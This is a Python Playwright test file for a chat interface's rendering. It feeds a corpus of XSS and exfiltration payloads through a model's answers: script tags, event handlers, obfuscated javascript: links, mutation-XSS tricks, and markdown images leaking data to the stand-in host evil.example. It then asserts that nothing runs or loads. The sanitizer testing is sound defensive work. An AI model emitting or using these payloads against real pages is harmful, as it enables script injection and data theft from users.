"""What a model says is only ever text: nothing in it runs, loads, or dresses up as a part of the page."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Request, expect

from tests.ui.site import Site

CORPUS = {
    "script": "<script>window.pwned = 1</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "handler": '<img src="x" onerror="window.pwned = 1">',
    "handler on svg": '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
    "handler on details": '<details open ontoggle="window.pwned = 1"><summary>s</summary></details>',
    "frame": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="q"><button>Log in</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style element": "<style>body { background: url(https://evil.example/leak) }</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/leak)">over all</div>',
    "class of ours": '<div class="notices" id="composer">dressed up</div>',
    "javascript link": "[click](javascript:window.pwned=1)",
    "javascript link with case": "[click](JaVaScRiPt:window.pwned=1)",
    "javascript link with entities": "[click](javascript&#58;window.pwned=1)",
    "javascript link with a tab": '<a href="java\tscript:window.pwned=1">click</a>',
    "data link": "[click](data:text/html,<script>window.pwned=1</script>)",
    "vbscript link": '<a href="vbscript:x">click</a>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "katex": "$\\href{javascript:window.pwned=1}{x}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.example/leak}$",
    "code with a language": '```"><img src=x onerror=window.pwned=1>\n<img src=x onerror=window.pwned=1>\n```',
    "table": '| <img src=x onerror=window.pwned=1> |\n|---|\n| <a onclick="window.pwned=1">x</a> |',
    "reference": '[x]: javascript:window.pwned=1 "t"\n\n[x]',
    "image": "![secret](https://evil.example/leak?data=secret)",
    "reference image": "![x][y]\n\n[y]: https://evil.example/leak",
    "html image": '<img src="https://evil.example/leak" srcset="https://evil.example/leak 2x">',
    "picture": '<picture><source srcset="https://evil.example/leak"></picture><video poster="https://evil.example/leak" src="https://evil.example/leak"></video>',
    "link prefetch": '<link rel="prefetch" href="https://evil.example/leak"><link rel=stylesheet href=https://evil.example/leak>',
}

JUDGE = """() => {
    const inside = [...document.querySelectorAll('.prose *')];
    const show = (list) => list.map((element) => element.outerHTML);
    const forbidden = 'script style iframe object embed base form meta link video audio source svg'.split(' ');
    const harmless = /^(https?:|mailto:)/;
    const links = inside.filter((element) => element.localName === 'a' && element.hasAttribute('href'));
    const images = inside.filter((element) => element.localName === 'img');
    return {
        pwned: window.pwned ?? null,
        tags: show(inside.filter((element) => forbidden.includes(element.localName))),
        handlers: inside.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on')),
        dangerous: show(links.filter((link) => !harmless.test(link.href))),
        careless: show(links.filter((link) => link.target !== '_blank' || link.rel !== 'noopener noreferrer nofollow')),
        loading: show(images.filter((image) => !/^data:image\\//.test(image.getAttribute('src') ?? ''))),
        styled: show(inside.filter((element) => element.hasAttribute('style') && !element.closest('math'))),
        composers: document.querySelectorAll('#composer').length,
    };
}"""
INERT: dict[str, object] = {
    "pwned": None,
    "tags": [],
    "handlers": [],
    "dangerous": [],
    "careless": [],
    "loading": [],
    "styled": [],
    "composers": 1,
}


@pytest.fixture(autouse=True)
def _policy_may_speak(site: Site) -> Iterator[None]:
    """Chromium reports handlers that it refuses even in the inert document in which they are sanitised away."""
    yield
    site.complaints[:] = [words for words in site.complaints if "Content Security Policy" not in words]


@pytest.fixture
def foreign(site: Site) -> list[str]:
    """Addresses outside the gateway that the page asked for."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((site.url, "data:", "blob:")):
            asked.append(request.url)

    site.page.context.on("request", note)
    return asked


@pytest.mark.thorough
def test_everything_in_the_corpus_is_inert(site: Site, foreign: list[str]) -> None:
    site.choose("parrot")
    for name, attack in CORPUS.items():
        site.answered(f"say:Before.\n\n{attack}\n\nAfter.")
        assert site.page.evaluate(JUDGE) == INERT, name
    assert foreign == []


def test_the_corpus_is_inert_in_one_answer_and_after_a_reload(site: Site, foreign: list[str]) -> None:
    site.choose("parrot")
    site.answered("say:" + "\n\n".join(CORPUS.values()))
    assert site.page.evaluate(JUDGE) == INERT
    site.page.reload()
    site.complete(site.answers.last)
    assert site.page.evaluate(JUDGE) == INERT
    assert foreign == []


def test_a_remote_image_is_named_and_only_opened_on_purpose(site: Site, foreign: list[str]) -> None:
    site.choose("parrot")
    answer = site.answered("say:![a chart](https://images.example/chart.png)")
    link = answer.get_by_role("link")
    expect(link).to_have_text("Image not loaded (a chart): https://images.example/chart.png")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert foreign == []


def test_a_title_made_of_markup_is_text(site: Site) -> None:
    site.choose("parrot")
    site.answered("say:<img src=x onerror=window.pwned=1> is a title")
    expect(site.chats.first).to_contain_text("<img src=x")
    assert site.page.evaluate("window.pwned ?? null") is None
